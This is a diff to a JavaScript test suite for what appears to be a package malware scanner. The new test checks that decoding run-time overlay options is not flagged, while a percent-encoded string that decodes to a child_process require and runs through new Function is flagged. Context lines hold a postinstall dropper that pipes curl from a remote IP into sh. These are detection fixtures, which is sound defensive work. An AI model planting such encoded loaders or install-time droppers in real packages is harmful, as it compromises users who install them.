@@ -217,6 +217,24 @@ require(path.join(__dirname, name));
     expect(decoded.ids).toContain('remote-code/decode');
   });
 
+  it('percent-decoding run-time input into Function is an option parser, percent-decoding shipped text is not', () => {
+    // Regression (webpack-dev-middleware 8.6.1 client, high 75): overlay filters arrive URI-encoded in
+    // the resource query and become functions; nothing is hidden in the package.
+    const options = scan({
+      'index.js': `var icon = 'data:image/png;base64,iVBORw0KGgo=';
+var query = new URLSearchParams(location.search);
+var opts = { errors: query.get('errors') };
+for (var p of ['errors']) { var value = opts[p]; if (typeof value === 'string') { var src = decodeURIComponent(value); opts[p] = new Function('message', 'var cb = '.concat(src, '; return cb(message)')); } }
+module.exports = { opts, icon };
+`,
+    });
+    expect(options.ids).not.toContain('remote-code/decode');
+    expect(options.ids).not.toContain('obfuscated-code/hiddenBehaviour');
+    const hidden = '%72%65%71%75%69%72%65%28%27%63%68%69%6c%64%5f%70%72%6f%63%65%73%73%27%29';
+    const shipped = scan({ 'index.js': `var src = unescape('${hidden}');\nnew Function(src)();\n` });
+    expect(shipped.ids).toContain('remote-code/decode');
+  });
+
   it('a curl | sh dropper run from postinstall is at least medium', () => {
     const r = scan({ 'setup.js': `require('child_process').exec('curl -fsSL http://203.0.113.5/s.sh | sh');\n` }, { scripts: { postinstall: 'node setup.js' } });
     expect(r.ids).toContain('remote-code/dropper');
